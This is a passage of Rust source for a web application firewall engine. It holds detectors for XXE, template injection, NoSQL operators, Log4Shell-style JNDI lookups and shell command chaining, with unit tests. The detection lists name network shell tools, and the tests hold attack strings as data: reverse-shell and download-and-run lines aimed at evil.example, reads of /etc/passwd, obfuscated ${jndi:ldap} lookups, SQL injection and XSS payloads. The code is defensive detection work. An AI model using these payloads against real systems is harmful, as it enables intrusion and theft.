                && !pending.trim().is_empty()
            {
                values += 1;
                self.inspect(|| format!("xml:/{}", path.join("/")), pending.trim(), hits);
                pending.clear();
            }
            match event {
                Event::Start(ref e) | Event::Empty(ref e) => {
                    if path.is_empty() {
                        roots += 1;
                    }
                    let name = String::from_utf8_lossy(e.name().as_ref()).into_owned();
                    // Attributes named twice are refused here, in linear time (the
                    // parser's own check compares every pair).
                    let mut seen = std::collections::HashSet::new();
                    // The tag as a browser would read it (an SVG or XHTML upload), without
                    // namespace declarations: a `<script>` element or an event handler
                    // attribute is XSS.
                    let mut tag = format!("<{name}");
                    for attribute in e.attributes().with_checks(false) {
                        let attribute = attribute.map_err(|e| unparsable(&e.to_string()))?;
                        let key = String::from_utf8_lossy(attribute.key.as_ref()).into_owned();
                        let value = attribute.unescape_value().map_err(|e| unparsable(&e.to_string()))?;
                        values += 1;
                        if values > self.config.max_values {
                            return Err(too_many(self.config.max_values));
                        }
                        if key.starts_with("xmlns") && value.to_ascii_lowercase().contains("xinclude") {
                            xxe("XInclude", hits);
                        }
                        if !seen.insert(key.clone()) {
                            return Err(unparsable("an attribute named twice"));
                        }
                        if !key.starts_with("xmlns") {
                            tag.push_str(&format!(" {key}=\"{}\"", value.replace('"', "&quot;")));
                        }
                        let at = || {
                            format!(
                                "xml:/{}{}{name}@{key}",
                                path.join("/"),
                                if path.is_empty() { "" } else { "/" }
                            )
                        };
                        self.inspect(at, &value, hits);
                    }
                    tag.push('>');
                    if self.runs(Rule::XssLibinjection) && Rule::XssLibinjection.matches(&tag) {
                        let at = format!(
                            "xml:/{}{}{name}",
                            path.join("/"),
                            if path.is_empty() { "" } else { "/" }
                        );
                        hits.push(Rule::XssLibinjection.hit(&at, &masked(&tag)));
                    }
                    if matches!(event, Event::Start(_)) {
                        path.push(name);
                    }
                }
                Event::End(_) => {
                    path.pop();
                }
                Event::Text(t) => pending.push_str(&t.decode().map_err(|e| unparsable(&e.to_string()))?),
                Event::CData(c) => pending.push_str(&String::from_utf8_lossy(&c.into_inner())),
                Event::GeneralRef(r) => {
                    let name = r.decode().map_err(|e| unparsable(&e.to_string()))?;
                    match quick_xml::escape::unescape(&format!("&{name};")) {
                        Ok(resolved) => pending.push_str(&resolved),
                        // An entity the document declared itself: its value comes from the
                        // DTD (an external file, or an expansion bomb).
                        Err(_) => xxe(&name, hits),
                    }
                }
                Event::DocType(d) => {
                    // An internal subset (entities, default attribute values) or an
                    // external DTD: the document's meaning then comes from declarations.
                    let declared = d.decode().unwrap_or_default().to_ascii_uppercase();
                    if declared.contains('[') || declared.contains("SYSTEM") || declared.contains("PUBLIC") {
                        xxe(&declared, hits);
                    }
                }
                Event::Decl(d) => {
                    // The body is read as UTF-8: a document declaring another encoding
                    // (UTF-7, Latin-1) would be read differently by the upstream.
                    if let Some(Ok(encoding)) = d.encoding() {
                        let encoding = String::from_utf8_lossy(&encoding).to_ascii_lowercase();
                        if !matches!(encoding.as_str(), "utf-8" | "utf8" | "us-ascii" | "ascii") {
                            return Err(unparsable(&format!("declares encoding {encoding}; send UTF-8")));
                        }
                    }
                }
                Event::Comment(_) | Event::PI(_) => {}
                Event::Eof => break,
            }
            if values > self.config.max_values {
                return Err(too_many(self.config.max_values));
            }
        }
        if !path.is_empty() || roots != 1 {
            return Err(unparsable("not one well-formed element"));
        }
        Ok(())
    }
}

/// A server-side template expression that computes or reaches into objects.
fn template_expression(value: &str) -> bool {
    // What an expression that runs code or reaches into objects holds (whitespace removed,
    // lower case); `{{name}}`, `${price}` hold none of it.
    const CODE: [&str; 26] = [
        "__",
        ".class",
        "getruntime",
        "getclass",
        "constructor",
        "import",
        "system(",
        "exec(",
        "popen",
        "eval(",
        "require(",
        "process.",
        "runtime",
        "execute",
        "?new(",
        "|filter",
        "|map",
        "|attr",
        "t(java",
        "\"id\"",
        "'id'",
        "@java",
        "$class",
        "#_memberaccess",
        "\\x5f",
        "passthru(",
    ];
    // Objects Jinja and Flask templates expose: code only inside `{{ }}` or `{% %}`.
    const JINJA: [&str; 4] = ["config", "self.", "request.", "range."];
    let computes = |open: &str, inner: &str| {
        let inner: String = inner.chars().filter(|c| !c.is_whitespace()).collect();
        CODE.iter().any(|code| inner.contains(code))
            || (matches!(open, "{{" | "{%") && JINJA.iter().any(|code| inner.contains(code)))
            || inner
                .as_bytes()
                .windows(3)
                .any(|w| w[0].is_ascii_digit() && b"*+-/%".contains(&w[1]) && (w[2].is_ascii_digit() || w[2] == b'\''))
    };
    let lower = value.to_ascii_lowercase();
    [
        ("{{", "}}"),
        ("${", "}"),
        ("#{", "}"),
        ("*{", "}"),
        ("<%", "%>"),
        ("{%", "%}"),
        ("<#", ">"),
        ("#set(", ")"),
        ("%{", "}"),
        ("{", "}"),
    ]
    .iter()
    .any(|(open, close)| {
        lower.match_indices(open).any(|(at, _)| {
            // An expression is short: its end is looked for within 256 bytes only (a scan
            // to the end of the value for every opening would make long values quadratic).
            let after = window(&lower, at + open.len(), 256);
            after.find(close).is_some_and(|end| computes(open, &after[..end]))
        })
    })
}

/// Up to `len` bytes of `text` from `start`, cut at a character boundary.
fn window(text: &str, start: usize, len: usize) -> &str {
    let mut end = (start + len).min(text.len());
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    text.get(start..end).unwrap_or("")
}

fn too_many(max: usize) -> Denial {
    Denial::new(
        Reason::WafTooManyValues,
        format!("The body holds more than {max} values."),
    )
}

impl BuiltinEngine {
    /// A JSON body, read in one pass by [`super::json`]: every string value is inspected as
    /// `body:<pointer>`, every key as `key:<pointer>` (or as a NoSQL operator, named by its
    /// pointer), with nesting, the number of values and keys named twice refused.
    fn json(&self, body: &[u8], hits: &mut Vec<Hit>) -> Result<(), Denial> {
        struct Inspect<'a> {
            waf: &'a BuiltinEngine,
            hits: &'a mut Vec<Hit>,
        }
        impl super::json::JsonVisitor for Inspect<'_> {
            // The reader hands over no single word: a word matches no rule (see `Shape`).
            fn key(&mut self, at: &JsonPath<'_, '_>, key: &str) {
                if !self
                    .waf
                    .operator_key(|| format!("body:{}", at.pointer()), key, self.hits)
                {
                    self.waf.inspect(|| format!("key:{}", at.pointer()), key, self.hits);
                }
            }
            fn string(&mut self, at: &JsonPath<'_, '_>, value: &str) {
                self.waf.inspect(|| format!("body:{}", at.pointer()), value, self.hits);
            }
        }
        let (max_depth, max_values) = (self.config.max_json_depth, self.config.max_values);
        super::json::read(body, max_depth, max_values, &mut Inspect { waf: self, hits }).map_err(|e| match e {
            JsonError::Syntax { at, expected } => Denial::new(Reason::WafBodyUnparsable, "The body is not valid JSON.")
                .note(format!("JSON error at byte {at}: expected {expected}")),
            JsonError::TooDeep => Denial::new(
                Reason::WafBodyTooDeep,
                format!("The JSON body nests deeper than {max_depth} levels."),
            ),
            JsonError::TooMany => too_many(max_values),
            JsonError::DuplicateKey => Denial::new(
                Reason::WafBodyUnparsable,
                "The JSON body names a key twice in one object; send each key once.",
            ),
        })
    }
}

/// The parameters of a `Content-Disposition` value, with quoted strings read as RFC 7578
/// and browsers write them (backslash escapes); `None` when a quote is not closed.
fn disposition_params(value: &str) -> Option<Vec<(String, String)>> {
    let mut params = Vec::new();
    let mut chars = value.chars().peekable();
    // Skip the disposition type.
    while chars.peek().is_some_and(|c| *c != ';') {
        chars.next();
    }
    while chars.next() == Some(';') {
        let mut key = String::new();
        while let Some(c) = chars.next_if(|c| *c != '=' && *c != ';') {
            key.push(c);
        }
        let mut value = String::new();
        if chars.next_if_eq(&'=').is_some() {
            while chars.next_if(|c| c.is_whitespace()).is_some() {}
            if chars.next_if_eq(&'"').is_some() {
                loop {
                    match chars.next()? {
                        '"' => break,
                        '\\' => value.push(chars.next()?),
                        c => value.push(c),
                    }
                }
                while chars.next_if(|c| *c != ';').is_some() {}
            } else {
                while let Some(c) = chars.next_if(|c| *c != ';') {
                    value.push(c);
                }
            }
        }
        params.push((key.trim().to_owned(), value.trim().to_owned()));
    }
    Some(params)
}

/// MongoDB query operators that change what a query matches or run code, refused from
/// paranoia 1 (compared ignoring case).
const NOSQL_OPERATORS: [&str; 27] = [
    "$where",
    "$ne",
    "$eq",
    "$gt",
    "$gte",
    "$lt",
    "$lte",
    "$in",
    "$nin",
    "$regex",
    "$exists",
    "$expr",
    "$or",
    "$and",
    "$not",
    "$nor",
    "$elemMatch",
    "$function",
    "$accumulator",
    "$text",
    "$mod",
    "$all",
    "$size",
    "$type",
    "$jsonSchema",
    "$lookup",
    "$merge",
];

/// `name=value` pairs of a query or form, percent- and `+`-decoded.
fn pairs(text: &str) -> Vec<(String, String)> {
    text.split('&')
        .filter(|p| !p.is_empty())
        .map(|p| {
            let (name, value) = p.split_once('=').unwrap_or((p, ""));
            (
                form_decode(name, true).into_owned(),
                form_decode(value, true).into_owned(),
            )
        })
        .collect()
}

/// Percent-decoding (and `+` as a space in forms and queries), as servers read values;
/// bytes that are not UTF-8 are replaced.
fn form_decode(text: &str, plus_is_space: bool) -> Cow<'_, str> {
    let bytes = text.as_bytes();
    // Most names, values and path segments have nothing to decode.
    if !(bytes.contains(&b'%') || plus_is_space && bytes.contains(&b'+')) {
        return Cow::Borrowed(text);
    }
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    let hex = |b: u8| pinpoint_core::hex::digit_value(b).map(u32::from);
    while i < bytes.len() {
        // IIS's `%uXXXX` (a UTF-16 unit), as servers that accept it read it.
        if bytes[i] == b'%' && matches!(bytes.get(i + 1), Some(b'u' | b'U')) {
            let unit = bytes
                .get(i + 2..i + 6)
                .and_then(|d| d.iter().try_fold(0u32, |n, b| hex(*b).map(|h| n * 16 + h)))
                .and_then(char::from_u32);
            if let Some(c) = unit {
                out.extend_from_slice(c.encode_utf8(&mut [0; 4]).as_bytes());
                i += 6;
                continue;
            }
        }
        match bytes[i] {
            b'%' if i + 2 < bytes.len() => match (hex(bytes[i + 1]), hex(bytes[i + 2])) {
                (Some(h), Some(l)) => {
                    out.push((h * 16 + l) as u8);
                    i += 3;
                    continue;
                }
                _ => out.push(b'%'),
            },
            b'+' if plus_is_space => out.push(b' '),
            b => out.push(b),
        }
        i += 1;
    }
    Cow::Owned(String::from_utf8_lossy(&out).into_owned())
}

/// HTML character references decoded (`&lt;`, `&#60;`, `&#x3c;`), for what a browser
/// would read.
fn html_decode(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find('&') {
        out.push_str(&rest[..at]);
        rest = &rest[at..];
        // A reference is short: look for its `;` within a few bytes only (a scan to the
        // end of the value for every `&` would make long values quadratic).
        let window = &rest.as_bytes()[..rest.len().min(12)];
        let end = window.iter().position(|b| *b == b';');
        let decoded = end.and_then(|e| {
            let entity = &rest[1..e];
            let c = match entity {
                "lt" => Some('<'),
                "gt" => Some('>'),
                "quot" => Some('"'),
                "apos" => Some('\''),
                "amp" => Some('&'),
                // HTML5 names for what markup and URLs are built from.
                "Tab" => Some('\t'),
                "NewLine" => Some('\n'),
                "colon" => Some(':'),
                "sol" => Some('/'),
                "bsol" => Some('\\'),
                "lpar" => Some('('),
                "rpar" => Some(')'),
                "grave" => Some('`'),
                "equals" => Some('='),
                "semi" => Some(';'),
                "period" => Some('.'),
                "excl" => Some('!'),
                "num" => Some('#'),
                "comma" => Some(','),
                "lsqb" | "lbrack" => Some('['),
                "rsqb" | "rbrack" => Some(']'),
                "lcub" | "lbrace" => Some('{'),
                "rcub" | "rbrace" => Some('}'),
                _ if entity.starts_with("#x") || entity.starts_with("#X") => {
                    u32::from_str_radix(&entity[2..], 16).ok().and_then(char::from_u32)
                }
                _ if entity.starts_with('#') => entity[1..].parse().ok().and_then(char::from_u32),
                _ => None,
            };
            c.map(|c| (c, e))
        });
        match decoded {
            Some((c, e)) => {
                out.push(c);
                rest = &rest[e + 1..];
            }
            None => {
                out.push('&');
                rest = &rest[1..];
            }
        }
    }
    out.push_str(rest);
    out
}

/// A `${jndi:` lookup, also spelled with nested lookups that evaluate to its letters
/// (`${lower:j}`, `${::-j}`, `${env:X:-j}` with a default of any length, nested again;
/// case lookups map case as Java does, so `${upper:ı}` is `I`). Innermost lookups are
/// resolved first, a bounded number of rounds, each a linear scan: a lookup's closing `}`
/// is looked for only up to the next `${`.
fn jndi(value: &str) -> bool {
    let mut text = value.to_ascii_lowercase();
    if !text.contains("${") {
        return false;
    }
    for _ in 0..16 {
        if text.contains("${jndi:") {
            return true;
        }
        let mut next = String::with_capacity(text.len());
        let mut rest = text.as_str();
        let mut changed = false;
        while let Some(at) = rest.find("${") {
            next.push_str(&rest[..at]);
            let inner_start = at + 2;
            // Up to the next lookup: each byte is scanned once a round.
            let window = &rest[inner_start..];
            let window = &window[..window.find("${").unwrap_or(window.len())];
            match window.find('}') {
                Some(close) if !window[..close].starts_with("jndi") => {
                    let inner = &window[..close];
                    let resolved: Cow<'_, str> = match inner.find(":-") {
                        Some(d) => Cow::Borrowed(&inner[d + 2..]),
                        // `${lower:jndi:ldap}` is `jndi:ldap`: case lookups return all
                        // that follows their name, in Unicode's case mapping (Java's).
                        None => match inner.split_once(':') {
                            Some(("lower", rest)) => Cow::Owned(rest.to_lowercase()),
                            Some(("upper", rest)) => Cow::Owned(rest.to_uppercase().to_lowercase()),
                            _ => Cow::Borrowed(inner.rsplit(':').next().unwrap_or("")),
                        },
                    };
                    next.push_str(resolved.trim_matches('\''));
                    rest = &rest[inner_start + close + 1..];
                    changed = true;
                }
                _ => {
                    next.push_str("${");
                    rest = &rest[inner_start..];
                }
            }
        }
        next.push_str(rest);
        if !changed {
            return false;
        }
        text = next;
    }
    text.contains("${jndi:")
}

/// `raw` (lower case) as a shell reads it into words: `${IFS}` a space; other variables
/// (`$x`, `${x}`, `$@`, `$*`), which an attacker leaves unset, empty; quotes and
/// backslashes gone; a brace expansion `{a,b}` its words, space-separated.
fn shell_word(raw: &str) -> String {
    let mut out = String::with_capacity(raw.len());
    let mut chars = raw.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\'' | '"' | '\\' => {}
            '$' => match chars.peek() {
                Some('{') => {
                    let name: String = chars.by_ref().skip(1).take_while(|c| *c != '}').collect();
                    if name == "ifs" {
                        out.push(' ');
                    }
                }
                Some('@' | '*') => {
                    chars.next();
                }
                Some(c) if c.is_ascii_alphanumeric() || *c == '_' => {
                    let mut name = String::new();
                    while let Some(c) = chars.next_if(|c| c.is_ascii_alphanumeric() || *c == '_') {
                        name.push(c);
                    }
                    if name == "ifs" {
                        out.push(' ');
                    }
                }
                _ => out.push('$'),
            },
            '{' if out.is_empty() => {}
            '}' => {}
            ',' if raw.starts_with('{') => out.push(' '),
            c => out.push(c),
        }
    }
    out
}

/// A shell command chained into a value: after `;`, `|`, `&`, a newline, `$(`, `<(` or a
/// backquote, a known command (also by full path, `/bin/cat`, and as a shell reads it
/// through quotes, backslashes and `${IFS}`), then the end of the value, a closing `)`,
/// backquote or another separator, or an argument shaped like one (an option, a path, a
/// variable, a quote, a URL, a host name; a number for `sleep`). Prose that merely has a
/// separator before a common word (`Tickets; id required`) does not match.
fn shell_chain(value: &str) -> bool {
    shell_chain_reading(value, false)
}

/// [`shell_chain`] with markdown code in prose left out: a code span whose backquotes
/// stand between words (`` run `ls -la` now ``) and a fenced block (```` ``` ````) are
/// text, not command substitutions; a value that is all one backquoted command, or a
/// backquote after a separator (`` x;`id` ``), is still a substitution.
fn shell_chain_outside_code(value: &str) -> bool {
    shell_chain_reading(value, true)
}

/// Where the markdown code span or fenced block that opens at `bytes[at]` (a backquote)
/// ends, when it is one (see [`shell_chain_outside_code`]).
fn markdown_code_end(bytes: &[u8], at: usize) -> Option<usize> {
    // Only where a run of backquotes starts, and only runs markdown writes (a long run is
    // no markdown): each run is considered once, and the scan for its close stays linear.
    if at > 0 && bytes[at - 1] == b'`' {
        return None;
    }
    let run = bytes[at..].iter().take_while(|b| **b == b'`').count();
    if run > 8 {
        return None;
    }
    let fence = vec![b'`'; run];
    let body_start = at + run;
    let close = memchr::memmem::find_iter(&bytes[body_start..], &fence)
        .map(|c| body_start + c)
        .find(|&c| bytes.get(c + run) != Some(&b'`') && bytes[c - 1] != b'`')?;
    let end = close + run;
    if run >= 3 {
        return Some(end);
    }
    let opens_between_words =
        at == 0 || bytes[at - 1].is_ascii_whitespace() || matches!(bytes[at - 1], b'(' | b'[' | b'"' | b'\'');
    let closes_between_words = bytes
        .get(end)
        .is_none_or(|b| b.is_ascii_whitespace() || b".,;:!?)]\"'".contains(b));
    let words_outside =
        bytes[..at].iter().any(u8::is_ascii_alphanumeric) || bytes[end..].iter().any(u8::is_ascii_alphanumeric);
    (opens_between_words && closes_between_words && words_outside).then_some(end)
}

fn shell_chain_reading(value: &str, skip_markdown_code: bool) -> bool {
    const COMMANDS: [&str; 61] = [
        "cat",
        "dash",
        "ksh",
        "csh",
        "tcsh",
        "ash",
        "ls",
        "id",
        "whoami",
        "uname",
        "wget",
        "curl",
        "nc",
        "ncat",
        "netcat",
        "bash",
        "sh",
        "zsh",
        "python",
        "python3",
        "perl",
        "php",
        "ruby",
        "rm",
        "ping",
        "nslookup",
        "powershell",
        "cmd",
        "chmod",
        "sleep",
        "dig",
        "touch",
        "env",
        "printenv",
        "printf",
        "echo",
        "telnet",
        "base64",
        "dir",
        "ifconfig",
        "ipconfig",
        "timeout",
        "busybox",
        "socat",
        "find",
        "ps",
        "kill",
        "nohup",
        "xargs",
        "getent",
        "sudo",
        "su",
        "ssh",
        "scp",
        "tftp",
        "crontab",
        "awk",
        "sed",
        "vi",
        "vim",
        "node",
    ];
    // Commands whose usual argument is a number (`sleep 5`).
    const TIMED: [&str; 3] = ["sleep", "timeout", "ping"];
    let lower = value.to_ascii_lowercase();
    let bytes = lower.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        // After `$(`, `<(`, `>(` or a backquote a command stands for certain (substitution);
        // after `;`, `|`, `&` or a newline it might be prose, and needs an argument's shape.
        let (start, substitution) = match bytes[i] {
            b'`' if skip_markdown_code => match markdown_code_end(bytes, i) {
                Some(end) => {
                    i = end;
                    continue;
                }
                None => (i + 1, true),
            },
            b'`' => (i + 1, true),
            b'$' | b'<' | b'>' if bytes.get(i + 1) == Some(&b'(') => (i + 2, true),
            b';' | b'|' | b'&' | b'\n' => (i + 1, false),
            _ => {
                i += 1;
                continue;
            }
        };
        // A run of separators is one: each is not read again (a long run of `;` would
        // otherwise be read once per byte).
        if !substitution && matches!(bytes.get(start), Some(b';' | b'|' | b'&' | b'\n')) {
            i += 1;
            continue;
        }
        // A command is short: only the next 128 bytes are read (reading to the end of the
        // value after every separator would make long values quadratic).
        let after = window(&lower, start, 128).trim_start_matches([' ', '\t', '&', '|', ';']);
        let word_end = after
            .find(|c: char| c.is_whitespace() || matches!(c, ')' | '`' | ';' | '|' | '&'))
            .unwrap_or(after.len());
        // The word as a shell reads it: quotes, backslashes and expansions of variables
        // (unset: empty) removed (`w'h'o'am'i`, `i\d`, `who$@ami`, `w${u}get`); `${IFS}` is
        // a space; a brace expansion `{wget,http://x}` is its words.
        let raw = &after[..word_end];
        let spelled: Cow<str> = match raw.contains(['\'', '"', '\\', '$', '{']) {
            true => Cow::Owned(shell_word(raw)),
            false => Cow::Borrowed(raw),
        };
        let word = spelled.split(' ').next().unwrap_or("");
        let command = word.rsplit('/').next().unwrap_or(word);
        if COMMANDS.contains(&command) {
            // After a brace expansion's first word come its others.
            let tail = match raw.starts_with('{') {
                true => &spelled[word.len()..],
                false => &after[word_end..],
            };
            let argument = tail.trim_start();
            if substitution
                || argument.is_empty()
                || tail.starts_with([')', '`', ';', '|', '&'])
                || raw.contains("${ifs}")
                || (tail.starts_with(char::is_whitespace)
                    && (argument.starts_with(['-', '/', '$', '\'', '"', '`', '~', '.'])
                        || (TIMED.contains(&command) && argument.starts_with(|c: char| c.is_ascii_digit()))
                        || url_argument(argument)
                        || host_argument(argument)
                        || COMMANDS.contains(&argument.split_whitespace().next().unwrap_or(""))))
            {
                return true;
            }
        }
        i += 1;
    }
    false
}

/// An argument shaped like a host name (`evil.example`, `10.0.0.1`).
fn host_argument(argument: &str) -> bool {
    let word = argument.split_whitespace().next().unwrap_or("");
    let labels: Vec<&str> = word.split('.').collect();
    labels.len() >= 2
        && labels
            .iter()
            .all(|l| !l.is_empty() && l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-'))
        && labels
            .last()
            .is_some_and(|l| l.len() >= 2 || l.bytes().all(|b| b.is_ascii_digit()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn values_are_decoded_as_servers_read_them() {
        assert_eq!(form_decode("a%27+b", true), "a' b");
        assert_eq!(form_decode("a%2", true), "a%2");
        assert_eq!(form_decode("%u003Cb%U003E%uZZ", true), "<b>%uZZ");
        assert_eq!(html_decode("&lt;script&#62;&#x61;"), "<script>a");
        assert!(jndi("${${lower:j}ndi:${lower:l}dap://x/a}"));
        assert!(jndi("${jndi:ldap://x}"));
        assert!(!jndi("${price} is jndi-free"));
        // Java's case mapping, a default of any length, and no lookup cut inside a character.
        assert!(jndi("${jnd${upper:\u{131}}:ldap://x/a}"));
        assert!(jndi(&format!("${{${{env:{}:-j}}ndi:ldap://x/a}}", "A".repeat(200))));
        assert!(!jndi(&format!("${{{}\u{131}\u{131}}}", "a".repeat(63))));
        assert_eq!(html_decode("jav&Tab;ascript&colon;"), "jav\tascript:");
        // Text a JSON reader detects as UTF-16 or UTF-32, and escapes outside strict JSON.
        let wide: Vec<u8> = "{\"q\":\"<x>\"}".encode_utf16().flat_map(u16::to_le_bytes).collect();
        assert_eq!(wide_text(&wide).as_deref(), Some("{\"q\":\"<x>\"}"));
        let mut with_bom = vec![0xFE, 0xFF];
        with_bom.extend("ab".encode_utf16().flat_map(u16::to_be_bytes));
        assert_eq!(wide_text(&with_bom).as_deref(), Some("ab"));
        let wide32: Vec<u8> = "{}".chars().flat_map(|c| (c as u32).to_le_bytes()).collect();
        assert_eq!(wide_text(&wide32).as_deref(), Some("{}"));
        assert_eq!(wide_text(b"{\"a\":1}"), None);
        // A shell's reading of a word: unset variables empty, `$IFS` a space, braces split.
        assert_eq!(shell_word("w${u}get"), "wget");
        assert_eq!(shell_word("cat$ifs$9/etc/passwd"), "cat /etc/passwd");
        assert_eq!(shell_word("{wget,http://x/s.sh}"), "wget http://x/s.sh");
        for attack in [
            "x;{wget,http://evil.example/s.sh}",
            "x;w${u}get http://evil.example/s",
            "x;dash -c id",
        ] {
            assert!(shell_chain(attack), "{attack}");
        }
        assert!(!shell_chain("Tickets; id required at the door"));
        assert!(!shell_chain("prices {low,high}; see below"));
        assert!(shell_chain("x; cat /etc/passwd") && shell_chain("$(id)"));
        assert!(!shell_chain("Tom & Jerry; a catalogue"));
        for attack in [
            "`wget evil/x -O /tmp/x`",
            ";busybox nc evil.example 1 -e sh",
            "x; cat /etc/passwd",
            "a|id",
            "1 && /usr/bin/id",
            "q\nwhoami",
            "`id`",
            "; nslookup -q x.evil",
            "& ping -c 1 x",
        ] {
            assert!(shell_chain(attack), "{attack}");
        }
        for prose in [
            "Tickets; id required at the door",
            "Use $(document).ready()",
            "Run `npm install` first",
            "Coffee; ls: large size",
            "salt; pepper; sh-bang",
            "3-5 days | curl up with a book",
        ] {
            assert!(!shell_chain(prose), "{prose}");
        }
        // Markdown code in prose is text at paranoia 1 (and a command at 2); a value that
        // is one backquoted command, or a backquote after a separator, is a substitution.
        for code in [
            "Use `ls -la` to list; then cat the file",
            "it's `id` column",
            "run `ls` now",
            "```\nls -la\ncat notes.txt\n```",
        ] {
            assert!(!shell_chain_outside_code(code), "{code}");
            assert!(shell_chain(code), "{code}");
        }
        for attack in ["`id`", "x;`id`", "`wget evil/x -O /tmp/x`", "a; rm -rf later"] {
            assert!(shell_chain_outside_code(attack), "{attack}");
        }
        for jndi_attack in [
            "${${lower:${lower:j}}ndi:ldap://x/a}",
            "${${::-${::-j}}ndi:ldap://x/a}",
            "${jndi${::-:}ldap://x/a}",
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x/a}",
            "${j${main:\\k5:-Nd}i${spring:k5:-:}ldap://x/a}",
        ] {
            assert!(jndi(jndi_attack), "{jndi_attack}");
        }
        // Long runs stay linear.
        let long = "&".repeat(300_000) + &"${".repeat(300_000);
        let started = std::time::Instant::now();
        assert!(!jndi(&long) && html_decode(&long).len() == long.len());
        assert!(
            started.elapsed() < std::time::Duration::from_secs(2),
            "{:?}",
            started.elapsed()
        );
        assert!(template_expression("{{7*7}}") && template_expression("${7*7}") && template_expression("<%= 7 * 7 %>"));
        assert!(template_expression("{{self.__class__}}"));
        assert!(!template_expression("Hello {{name}}, it costs ${price}") && !template_expression("5*5 = 25"));
    }

    #[test]
    fn duplicate_json_keys_are_found_at_any_depth() {
        let engine = BuiltinEngine::new(&WafConfig::default());
        let refused = |body: &[u8]| {
            let mut hits = Vec::new();
            engine.json(body, &mut hits).err().map(|d| d.reason)
        };
        assert_eq!(refused(br#"{"q":"1","q":"2"}"#), Some(Reason::WafBodyUnparsable));
        assert_eq!(
            refused(br#"{"a":[{"x":1,"y":{"z":1,"z":2}}]}"#),
            Some(Reason::WafBodyUnparsable)
        );
        assert_eq!(refused(br#"{"a":[{"x":1},{"x":2}],"b":{"x":3}}"#), None);
        assert_eq!(refused(b"{not json"), Some(Reason::WafBodyUnparsable));
        assert_eq!(refused(b"{} trailing"), Some(Reason::WafBodyUnparsable));
        let many: String = (0..40).map(|i| format!("\"k{i}\":1,")).collect::<String>() + "\"k7\":2";
        assert_eq!(
            refused(format!("{{{many}}}").as_bytes()),
            Some(Reason::WafBodyUnparsable)
        );
        let deep = format!("{}1{}", "[".repeat(65), "]".repeat(65));
        assert_eq!(refused(deep.as_bytes()), Some(Reason::WafBodyTooDeep));
        let ok = format!("{}1{}", "[".repeat(64), "]".repeat(64));
        assert_eq!(refused(ok.as_bytes()), None);
    }

    /// Long values of what rules look for (separators, openings, entities, escapes) take
    /// time in proportion to their length: each rule reads a bounded window after every
    /// occurrence. (Before, 16 KiB of `&` took seconds: every separator read to the end.)
    #[test]
    fn rules_stay_linear_on_long_runs_of_what_they_look_for() {
        let engine = BuiltinEngine::new(&WafConfig {
            paranoia: 2,
            ..WafConfig::default()
        });
        let units = [
            "&", "&amp;", "&lt;", "&#", "$(", "${", "{{", "${lower:", "%", "%u", "\\", "<", "'", "<%", "#{", ";", "|",
            "`", "..", "/", "<!--", "<a ",
        ];
        let time = |unit: &str, len: usize| {
            let value = unit.repeat(len / unit.len());
            let started = std::time::Instant::now();
            let mut hits = Vec::new();
            engine.inspect(|| String::from("body:/a"), &value, &mut hits);
            started.elapsed()
        };
        for unit in units {
            let (small, large) = (time(unit, 4 * 1024), time(unit, 32 * 1024));
            // Eight times the input; linear work takes about eight times as long, quadratic
            // sixty-four. The bound leaves room for a noisy machine.
            assert!(
                large < small * 24 + std::time::Duration::from_millis(50),
                "{unit:?}: 4 KiB {small:?}, 32 KiB {large:?}"
            );
        }
    }

    #[test]
    fn a_lookup_start_is_found_anywhere_in_a_header_value() {
        for value in [&b"${jndi:ldap://x}"[..], b"a$b${", b"$${", b"\xff${x}"] {
            assert!(holds_lookup_start(value), "{value:?}");
        }
        for value in [&b""[..], b"$", b"a$", b"{$", b"$ {", b"cost: $5 {total}"] {
            assert!(!holds_lookup_start(value), "{value:?}");
        }
    }

    #[test]
    fn a_single_word_matches_no_rule_and_shapes_gate_rules() {
        for word in ["select", "union", "1or1", "sleep", "SKU_123", "x"] {
            let shape = Shape::of(word);
            assert!(Rule::ALL.iter().all(|r| !r.may_match(shape)), "{word}");
        }
        // Every rule still runs on the values its own tests match.
        for (rule, value) in [
            (Rule::SqliLibinjection, "1 UNION SELECT password FROM users--"),
            (Rule::XssLibinjection, "<script>alert(1)</script>"),
            (Rule::XssScriptUri, "javascript:alert(1)"),
            (Rule::TraversalDotDot, "../../etc/passwd"),
            (Rule::TraversalSystemFile, "file:///etc/hosts"),
            (Rule::JndiLookup, "${jndi:ldap://x/a}"),
            (Rule::RceShellChain, "$(id)"),
            (Rule::RceShellChain, "`id`"),
            (Rule::TemplateExpression, "<%= 7*7 %>"),
        ] {
            assert!(
                rule.may_match(Shape::of(value)) && rule.matches(value),
                "{rule:?} {value}"
            );
        }
    }

    #[test]
    fn rules_find_attacks_and_pass_look_alikes() {
        let hit = |rule: Rule, v: &str| rule.matches(v);
        assert!(hit(Rule::SqliLibinjection, "1' OR '1'='1"));
        assert!(hit(Rule::SqliLibinjection, "1 UNION SELECT password FROM users--"));
        assert!(!hit(Rule::SqliLibinjection, "O'Brien"));
        assert!(!hit(Rule::SqliLibinjection, "Please select a size from the list"));
        assert!(hit(Rule::XssLibinjection, "<script>alert(1)</script>"));
        assert!(hit(Rule::XssLibinjection, "&lt;img src=x onerror=alert(1)&gt;"));
        assert!(!hit(Rule::XssLibinjection, "if x < 10 then show the banner"));
        // Shaped like a boolean-based injection: refused, as the CRS refuses it.
        assert!(hit(Rule::SqliLibinjection, "5 < 6 and 7 > 3"));
        assert!(hit(Rule::TraversalDotDot, "../../etc/passwd"));
        assert!(hit(Rule::TraversalDotDot, "/app/..;/admin"));
        assert!(!hit(Rule::TraversalDotDot, "wait... what"));
        for target in [
            "/etc/passwd",
            "file:///etc/hosts",
            "C:\\Windows\\win.ini",
            "/proc/self/environ",
        ] {
            assert!(hit(Rule::TraversalSystemFile, target), "{target}");
        }
        for benign in ["/etc/passwdless", "see the etc. folder", "profile: a .envelope"] {
            assert!(!hit(Rule::TraversalSystemFile, benign), "{benign}");
        }
        for uri in [
            "javascript:alert(1)",
            " JaVa\tScRiPt:alert(1)",
            "java&#x09;script:alert(1)",
            "data:text/html;base64,PHM=",
        ] {
